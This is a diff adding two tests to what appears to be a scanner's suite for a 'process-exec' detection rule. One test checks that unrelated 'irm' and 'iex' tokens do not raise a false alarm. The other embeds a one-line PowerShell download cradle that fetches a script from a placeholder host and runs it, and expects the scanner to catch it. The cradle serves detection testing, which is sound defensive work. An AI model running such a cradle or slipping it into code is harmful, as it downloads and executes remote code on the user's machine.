@@ -125,3 +125,17 @@ describe('process-exec stays quiet', () => {
     expectAtMostLow(r.of(RULE));
   });
 });
+
+describe('process-exec lexical scan of a file that cannot be parsed', () => {
+  // A MIME table names the `irm` extension; far below, unrelated code says `iex`. The download
+  // cradle pattern must not join them across the file.
+  const table = ['const types = {', '  "application/vnd.example.rights": ["irm"],', ...Array.from({ length: 40 }, (_, i) => `  "application/x-example-${i}": ["ex${i}"],`), '};', 'const iex = 1;', 'function broken( {'].join('\n');
+  test('words of a table and a name far apart are not a download cradle', () => {
+    const r = scanFiles({ 'index.js': table });
+    expect(r.of('process-exec')).toEqual([]);
+  });
+  test('twin: a PowerShell download cradle in a file that cannot be parsed is caught', () => {
+    const r = scanFiles({ 'index.js': "const cmd = 'powershell -c \"iwr https://payload.invalid/a.ps1 | iex\"';\nfunction broken( {" });
+    expect(r.of('process-exec')[0]?.signals).toContain('exec:shell-download');
+  });
+});
